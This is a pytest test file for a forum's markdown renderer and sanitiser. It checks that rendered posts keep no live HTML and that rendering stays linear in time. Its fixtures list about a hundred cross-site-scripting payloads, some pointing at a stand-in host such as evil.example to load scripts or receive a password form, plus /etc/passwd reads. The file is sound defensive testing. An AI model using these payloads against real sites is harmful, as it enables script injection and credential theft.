"""Nothing live survives in the HTML of a post, and no text takes long (``trust.md`` C3, C9)."""

import sys
from collections.abc import Callable
from html.parser import HTMLParser
from types import FrameType

import pytest

from labhub.errors import Invalid
from labhub.forum.markdown import LARGEST_TEXT_BYTES, TAGS, clean_text, render, sanitise

ALLOWED = {
    "a": {"href", "rel"},
    "ol": {"start", "dir"},
    "ul": {"dir"},
    "blockquote": {"dir"},
    "table": {"dir", "class"},
    "pre": {"dir"},
    "td": {"class"},
    "th": {"class"},
}


class Live(HTMLParser):
    """Notes every tag, attribute or address that a post may not hold."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.addresses: list[str] = []
        self.tags: list[str] = []
        self.words = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ALLOWED.get(tag, set()):
                self.found.append(f"<{tag} {name}>")
            if name == "href":
                self.addresses.append(value or "")
                if not (value or "").lower().startswith(("http:", "https:", "mailto:", "/")) or (
                    value or ""
                ).startswith(("//", "/\\")):
                    self.found.append(f"href={value}")
            if name == "rel" and value != "nofollow noopener ugc":
                self.found.append(f"rel={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append("<!-- -->")

    def handle_decl(self, decl: str) -> None:
        self.found.append("<!>")

    def handle_pi(self, data: str) -> None:
        self.found.append("<?>")

    def unknown_decl(self, data: str) -> None:
        self.found.append("<![")

    def handle_data(self, data: str) -> None:
        self.words += data


def read(html: str) -> Live:
    parser = Live()
    parser.feed(html)
    parser.close()
    return parser


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<div hx-get=/sign-out hx-trigger=load>x</div>",
    '<div hx-on::after-request="alert(1)">x</div>',
    "<p data-hx-post=/discussions/new>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE html>",
    "<x onclick=alert(1)>x</x>",
    "<a id=f-text name=csrf_token>clobber</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](data:image/png;base64,iVBORw0=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)> 'title'\n\n[x][x]",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example" onmouseover="alert(1))',
    "[a](https://a.example/'onclick=alert(1)//)",
    "[a[b](javascript:alert(1))](javascript:alert(2))",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![" onerror="alert(1)](https://evil.example/x.png)',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://a.example/"onclick=alert(1)>',
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/<script>alert(1)</script>",
    "javascript:alert(1)//https://a.example",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "~~~ onload=alert(1)\nx\n~~~",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "| <script>alert(1)</script> | b |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",  # noqa: E501
    'a | b\n:-|:-:\n" style="x | y',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "\\<script\\>alert(1)\\</script\\>",
    "**<b onmouseover=alert(1)>**",
    "*a <i\nonclick=alert(1)\n>b</i>*",
    '#12"><script>alert(1)</script>',
    "#1<img src=x onerror=alert(1)>",
    "{{ 7*7 }} {% include '/etc/passwd' %}",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<\u0000script>alert(1)</script>",
    '<a href="https://a.example" target=_blank ping=//evil.example>x</a>',
]


@pytest.mark.req("C3")
@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_live_survives(vector: str) -> None:
    for text in (vector, f"a {vector} b", f"> - {vector}", f"**{vector}**\n\n{vector}"):
        assert read(render(text).html).found == []


@pytest.mark.req("C3")
@pytest.mark.parametrize("vector", VECTORS)
def test_the_sanitiser_alone_stops_everything_too(vector: str) -> None:
    assert read(sanitise(vector)).found == []


@pytest.mark.req("C3")
def test_there_are_enough_vectors() -> None:
    assert len(set(VECTORS)) >= 60


def test_number_becomes_a_link_to_the_post() -> None:
    html = render("See #12, (#13) and 见#14号.").html
    assert read(html).addresses == ["/posts/12", "/posts/13", "/posts/14"]


@pytest.mark.parametrize(
    "text", ["`#12`", "```\n#12\n```", "    #12", "a#12", "#12a", "#0", "&#12;", "/#12", "\\#12", "##12"]
)
def test_number_in_code_or_in_a_word_stays_text(text: str) -> None:
    assert read(render(text).html).addresses == []


def test_number_inside_a_link_does_not_make_a_second_one() -> None:
    assert read(render("[as #12 says](https://a.example/#13)").html).addresses == ["https://a.example/#13"]


def test_only_addresses_with_a_scheme_become_links() -> None:
    html = render("www.a.example b.example me@c.example https://d.example/x_(y)).").html
    assert read(html).addresses == ["https://d.example/x_(y)"]


def test_local_address_stays_a_link() -> None:
    assert read(render("[method](/methods/QT-1)").html).addresses == ["/methods/QT-1"]


def test_picture_becomes_a_link_to_it() -> None:
    found = read(render("![gel](https://a.example/gel.png)").html)
    assert found.tags == ["p", "a"]
    assert found.words.strip() == "gel"


def test_link_without_words_shows_its_address() -> None:
    assert read(render("[](https://a.example)").html).words.strip() == "https://a.example"


def test_headings_lists_quotes_tables_and_emphasis_are_shown() -> None:
    text = "# H\n\n> q\n\n1. one\n2. two\n\n- *a* **b** ~~c~~\n\na|b\n:-|-:\n1|2"
    tags = set(read(render(text).html).tags)
    assert {"h4", "blockquote", "ol", "ul", "em", "strong", "s", "table", "td"} <= tags
    assert not tags & {"h1", "h2", "h3"}


def test_cells_are_aligned_by_a_class() -> None:
    html = render("a|b\n:-|-:\n1|2").html
    assert 'class="text-end"' in html
    assert "style" not in html


def test_links_to_elsewhere_are_counted() -> None:
    assert render("#1 https://a.example [b](https://b.example) [c](mailto:c@d.example)").links == 3


@pytest.mark.parametrize("text", ["", " \n\t\n ", "a\x00b", "a\x1bb", "a\x85b", "a\ud800b"])
def test_empty_text_and_control_signs_are_refused(text: str) -> None:
    with pytest.raises(Invalid):
        clean_text(text)


def test_text_at_the_cap_is_taken_and_one_byte_more_refused() -> None:
    assert len(clean_text("a" * LARGEST_TEXT_BYTES)) == LARGEST_TEXT_BYTES
    for text in ("a" * (LARGEST_TEXT_BYTES + 1), "é" * (LARGEST_TEXT_BYTES // 2) + "a"):
        with pytest.raises(Invalid, match="64"):
            clean_text(text)


def test_line_ends_become_plain() -> None:
    assert clean_text("\r\na\r\nb\rc  \r\n") == "a\nb\nc"


PATHOLOGICAL: dict[str, Callable[[int], str]] = {
    "brackets": lambda n: "[" * n,
    "closed brackets": lambda n: "[" * (n // 2) + "]" * (n // 2),
    "links": lambda n: "[a](" * (n // 4),
    "nested links": lambda n: "[](" * (n // 3),
    "pictures": lambda n: "![" * (n // 2),
    "quotes": lambda n: ">" * n,
    "quotes with blanks": lambda n: "> " * (n // 2),
    "stars": lambda n: "*a " * (n // 3),
    "stars and double stars": lambda n: "*a **a " * (n // 7),
    "underscores": lambda n: "_a" * (n // 2),
    "tildes": lambda n: "~~a" * (n // 3),
    "ticks": lambda n: "`a``b" * (n // 5),
    "pipes": lambda n: "|" * n,
    "rows": lambda n: "|a|b|\n|-|-|\n" + "|x|y|\n" * (n // 6),
    "addresses": lambda n: "https://[" * (n // 9),
    "schemes": lambda n: "http://" * (n // 7),
    "long address": lambda n: "http://a.b/" + "(" * n,
    "references": lambda n: "#1 " * (n // 3),
    "hashes": lambda n: "#" * n,
    "definitions": lambda n: "[a]: b\n" * (n // 7),
    "entities": lambda n: "&#x41;" * (n // 6),
    "ampersands": lambda n: "&" * n,
    "tags": lambda n: "<a " * (n // 3),
    "lists": lambda n: "- " * (n // 2),
    "backslashes": lambda n: "\\" * n,
    "blanks": lambda n: "a" + " " * n + "b",
    "Arabic": lambda n: "ا " * (n // 3),
}


def work_of(text: str) -> int:
    """Return how many functions are called while a text is rendered."""
    calls = 0

    def count(_frame: FrameType, event: str, _argument: object) -> None:
        nonlocal calls
        calls += event in ("call", "c_call")

    before = sys.getprofile()
    sys.setprofile(count)
    try:
        render(text)
    finally:
        sys.setprofile(before)
    return calls


@pytest.mark.req("C9")
@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_work_grows_with_the_text_and_not_faster(name: str) -> None:
    make = PATHOLOGICAL[name]
    once, twice = work_of(make(5_000)), work_of(make(10_000))
    assert twice < 2.3 * once + 2_000


@pytest.mark.req("C9")
@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_text_at_the_cap_is_rendered(name: str) -> None:
    text = PATHOLOGICAL[name](LARGEST_TEXT_BYTES - 16)
    assert read(render(text[:LARGEST_TEXT_BYTES]).html).found == []
